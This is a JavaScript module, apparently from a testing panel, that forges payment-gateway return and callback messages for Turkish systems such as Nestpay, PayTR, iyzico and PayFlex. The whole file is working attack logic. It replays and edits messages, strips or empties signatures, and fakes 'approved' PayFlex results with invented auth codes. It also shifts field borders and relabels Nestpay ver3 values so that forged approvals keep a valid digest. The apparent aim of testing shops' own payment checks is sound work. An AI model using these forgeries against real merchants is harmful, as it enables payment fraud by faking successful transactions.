// What a dishonest customer can do to a genuine message: repeat it, edit it, relabel it, send it elsewhere. Nothing here knows a
// secret.
import * as akbank from './akbank-attacks.js';
import { parseForm } from './form.js';
import * as boa from './boa-attacks.js';
import * as garanti from './garanti-attacks.js';
import * as interpos from './interpos-attacks.js';
import { signedFields, upperAscii } from './nestpay-hash.js';
import * as payfor from './payfor-attacks.js';
import * as posnetV1 from './posnetv1-attacks.js';
import * as tosla from './tosla-attacks.js';

/** @typedef {import('./courier.js').Message} Message */
/** @typedef {{ url: string, headers: Record<string, string>, body: string, method?: 'GET' }} Sent */

const isForm = (message) => message.headers['content-type'] === 'application/x-www-form-urlencoded';
const isWebhook = (message) => message.kind === 'webhook';
/** Systems that put nothing between the values that are signed; most of their returns also name those fields. */
const OWN_DIGESTS = { akbank, garanti, interpos, kuveytturk: boa, payfor, posnetv1: posnetV1, tosla, vakifkatilim: boa };
const ownDigest = ({ system }) => OWN_DIGESTS[system];
const joinsItsFields = (message) => ownDigest(message)?.isSignedReturn(message) ?? false;
const listsItsFields = (message) => joinsItsFields(message) && ownDigest(message).withOwnList !== undefined;
const isCallback = (message) => message.system === 'nestpay';
const isSigned = (message) => {
  if (message.system === 'kuveytturk') return false;    // its digest is inside a document: see boa-attacks.js
  if (message.system === 'payflex') return message.body.includes('&Hash=');
  if (message.system === 'moka') return message.body.includes('hashValue=');
  if (message.system === 'iyzico') return isWebhook(message) || message.body.includes('&signature=');
  return message.system !== 'paytr' || message.kind === 'notification';
};

/** In the order of the panel. `fits` tells for which messages an attack makes sense. */
export const ATTACKS = [
  { name: 'replay', tr: 'Aynen yinele', en: 'Replay unchanged', fits: () => true },
  { name: 'edit', tr: 'Bir alanı değiştir', en: 'Change a field', fits: () => true, needs: ['field', 'value'] },
  {
    name: 'relabel', tr: 'Alanları yeniden adlandır (imza geçerli kalır)', en: 'Relabel the fields (the digest stays valid)',
    fits: (message) => isCallback(message) && !message.body.includes('HASHPARAMS'),
  },
  {
    name: 'approve', tr: 'Onaylanmış gibi göster (imza yok)', en: 'Make it say approved (nothing is signed)',
    fits: (message) => message.system === 'payflex',
  },
  { name: 'drop-signature', tr: 'İmzayı çıkar', en: 'Drop the signature', fits: isSigned },
  { name: 'empty-signature', tr: 'İmzayı boşalt', en: 'Empty the signature', fits: isSigned },
  { name: 'duplicate', tr: 'Bir alanı iki kez gönder', en: 'Send a field twice', fits: () => true, needs: ['field', 'value'] },
  {
    name: 'elsewhere', tr: 'Başka bir siparişin adresine gönder', en: 'Send to the address of another order', fits: () => true,
    needs: ['url'],
  },
  {
    name: 'resplit', tr: 'status ile total_amount sınırını kaydır (imza geçerli kalır)',
    en: 'Move the border of status and total_amount (the digest stays valid)',
    fits: (message) => message.system === 'paytr' && message.kind === 'notification',
  },
  {
    name: 'own-list', tr: 'İmzalı alanların listesini kendin yaz (imza geçerli kalır)',
    en: 'Write the list of signed fields yourself (the digest stays valid)', fits: listsItsFields,
  },
  {
    name: 'shift', tr: 'İmzalı alanların sınırını kaydır (imza geçerli kalır)',
    en: 'Move a border between the signed fields (the digest stays valid)', fits: joinsItsFields,
  },
  {
    name: 'own-digest', tr: 'Onaylanmış gibi göster ve kendin imzala (imzada şifre yok)',
    en: 'Make it say approved and sign it yourself (no password is in the digest)',
    fits: (message) => ownDigest(message)?.isSignedWithoutPassword?.(message) ?? false,
  },
  {
    name: 'old-header', tr: 'Eski imza başlığıyla gönder (X-Iyz-Signature)', en: 'Send under the old signature header (X-Iyz-Signature)',
    fits: isWebhook,
  },
  ...boa.BOA_ATTACKS,
];

/**
 * @param {Message} message
 * @param {{ attack: string, field?: string, value?: string, url?: string }} order
 * @returns {Sent & { missing?: string[] }} `missing`: what relabelling could not keep or make
 */
export function forge(message, order) {
  return message.method === 'GET' ? forgedAddress(message, order) : forged(message, order);
}

/** A return that is a link has its fields in the address. */
function forgedAddress(message, order) {
  const [address, ...fields] = message.url.split('?');
  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
  const form = forged({ ...message, url: address, headers, body: fields.join('?') }, { ...order, url: order.url?.split('?')[0] });
  return { method: 'GET', url: `${form.url}?${form.body}`, headers: {}, body: '' };
}

function forged(message, { attack, field = '', value = '', url = '' }) {
  const chosen = ATTACKS.find(({ name }) => name === attack);
  if (!chosen?.fits(message)) throw new Error('this attack does not fit this message');
  const { headers, body } = message;
  const same = { url: message.url, headers, body };
  const signedByHeader = isWebhook(message);
  if (attack.startsWith('boa-')) return { ...same, body: boa.forgeBoa(message, { attack, field, value }) };
  switch (attack) {
    case 'replay': return same;
    case 'edit': return { ...same, body: edited(message, field, value) };
    case 'approve': return { ...same, body: approved(message) };
    case 'relabel': return { ...same, ...relabelled(body) };
    case 'drop-signature':
      if (signedByHeader) return { ...same, headers: without(headers, SIGNATURE_HEADER) };
      return { ...same, body: dropped(body, signatureField(message)) };
    case 'empty-signature':
      if (signedByHeader) return { ...same, headers: { ...headers, [SIGNATURE_HEADER]: '' } };
      return { ...same, body: changed(body, signatureField(message), '') };
    case 'duplicate': return { ...same, body: doubled(message, field, value) };
    case 'elsewhere': return { ...same, url };
    case 'resplit': return { ...same, body: resplit(body) };
    case 'own-list': return { ...same, body: ownDigest(message).withOwnList(body) };
    case 'shift': return { ...same, body: ownDigest(message).withShiftedBorder(body) };
    case 'own-digest': return { ...same, body: ownDigest(message).withOwnDigest(body) };
    default:
      return { ...same, headers: { ...without(headers, SIGNATURE_HEADER), 'x-iyz-signature': headers[SIGNATURE_HEADER] ?? '' } };
  }
}

const SIGNATURE_HEADER = 'x-iyz-signature-v3';
const SIGNATURE_FIELDS = {
  posnet: 'Sign', posnetv1: 'Mac', vakifkatilim: 'HashData', iyzico: 'signature', moka: 'hashValue', payfor: 'ResponseHash',
};
const signatureField = ({ system }) => SIGNATURE_FIELDS[system] ?? 'HASH';
const without = (headers, name) => Object.fromEntries(Object.entries(headers).filter(([each]) => each !== name));

// ---- forms, changed as text, so that everything else stays byte for byte

const isNamed = (part, name) => upperAscii(decodeURIComponent(part.split('=')[0])) === upperAscii(name);
const joined = (name, value) => `${encodeURIComponent(name)}=${encodeURIComponent(value)}`;

const changed = (body, name, value) =>
  body.split('&').map((part) => (isNamed(part, name) ? `${part.split('=')[0]}=${encodeURIComponent(value)}` : part)).join('&');
const dropped = (body, name) => body.split('&').filter((part) => !isNamed(part, name)).join('&');
const valueIn = (body, name) => decodeURIComponent(body.split('&').find((part) => isNamed(part, name))?.split('=')[1] ?? '');

function edited(message, field, value) {
  if (!isForm(message)) return message.body.replace(member(field), (_, start, old) => start + jsonValue(old, value));
  const has = message.body.split('&').some((part) => isNamed(part, field));
  return has ? changed(message.body, field, value) : `${message.body}&${joined(field, value)}`;
}

function doubled(message, field, value) {
  if (isForm(message)) return `${message.body}&${joined(field, value)}`;
  return message.body.replace(/^\{/, () => `{${JSON.stringify(field)}:${JSON.stringify(value)},`);
}

/** PayFlex: what the shop is told when all went well, by the MPI and by the Common Payment page. */
function approved(message) {
  const words = message.method === 'GET' ? { Rc: '0000', AuthCode: '123456', ErrorCode: '' }
    : { Status: 'Y', Eci: '05', Cavv: 'AAABBEg0VhI0VniQEjRWAAAAAAA=', ErrorCode: '', ErrorMessage: '' };
  return Object.entries(words).reduce((body, [name, value]) => edited({ ...message, body }, name, value), message.body);
}

/** 'success' + '1050' and 'success1' + '050' are the same text once they are joined. */
function resplit(body) {
  const [status, total] = [valueIn(body, 'status'), valueIn(body, 'total_amount')];
  return changed(changed(body, 'status', status + total.slice(0, 1)), 'total_amount', total.slice(1));
}

// ---- flat JSON

const member = (name) => new RegExp(`("${name.replace(/\W/g, '\\$&')}"\\s*:\\s*)("(?:[^"\\\\]|\\\\.)*"|[^,}]+)`);
const jsonValue = (old, value) => (/^\d/.test(old) && /^\d+$/.test(value) ? value : JSON.stringify(value));

// ---- relabelling: ver3 signs the ordered values and not their names

const DECISIONS = { mdStatus: '1', ProcReturnCode: '00', Response: 'Approved' };
const IDENTITY = ['clientid', 'oid', 'amount', 'currency'];
const OTHER_ANCHORS = ['failUrl', 'hashAlgorithm', 'lang', 'okUrl', 'storetype', 'taksit', 'TranType', 'islemtipi'];

/**
 * The same values under other names, in the same order: as many as possible of the names that a shop looks at keep what it expects,
 * and the decision fields get what they need, if the message contains it at all.
 * @param {string} body
 * @returns {{ body: string, missing: string[] }}
 */
export function relabelled(body) {
  const fields = parseForm(Buffer.from(body, 'latin1'));
  const signed = signedFields(fields);
  const value = (name) => fields.find(([each]) => each === name)?.[1];
  const pays = value('storetype')?.toLowerCase().startsWith('3d_pay');
  const decisions = Object.entries(DECISIONS).filter(([name]) => pays || name === 'mdStatus');
  const wanted = [
    ...decisions.map(([name, text]) => ({ name, text, weight: 1000 })),
    ...IDENTITY.map((name) => ({ name, text: value(name), weight: 50 })),
    ...OTHER_ANCHORS.map((name) => ({ name, text: value(name), weight: 1 })),
  ].filter(({ text }) => text !== undefined).sort((a, b) => (upperAscii(a.name) < upperAscii(b.name) ? -1 : 1));
  const kept = heaviestMatch(signed.map(([, text]) => text), wanted);
  const named = nameThem(signed, kept);
  const unsigned = fields.filter((field) => !signed.includes(field));
  return {
    body: [...named, ...unsigned].map(([name, text]) => joined(name, text)).join('&'),
    missing: wanted.filter((each) => !kept.includes(each)).map(({ name }) => name),
  };
}

/** The heaviest common subsequence of the values and the wanted fields; result[i] is what value i shall be called, or undefined. */
function heaviestMatch(values, wanted) {
  const best = Array.from({ length: values.length + 1 }, () => new Array(wanted.length + 1).fill(0));
  for (let i = values.length - 1; i >= 0; i -= 1) {
    for (let j = wanted.length - 1; j >= 0; j -= 1) {
      const take = values[i] === wanted[j].text ? best[i + 1][j + 1] + wanted[j].weight : 0;
      best[i][j] = Math.max(best[i + 1][j], best[i][j + 1], take);
    }
  }
  const result = new Array(values.length);
  for (let i = 0, j = 0; i < values.length && j < wanted.length;) {
    if (values[i] === wanted[j].text && best[i][j] === best[i + 1][j + 1] + wanted[j].weight) result[i++] = wanted[j++];
    else if (best[i][j] === best[i + 1][j]) i += 1;
    else j += 1;
  }
  return result;
}

/** Everything else gets a name that sorts right after the name before it. */
function nameThem(signed, kept) {
  let [before, count] = ['A', 0];
  return signed.map(([, text], i) => {
    if (kept[i]) [before, count] = [kept[i].name, 0];
    return [kept[i] ? kept[i].name : `${before}-${String((count += 1)).padStart(3, '0')}`, text];
  });
}
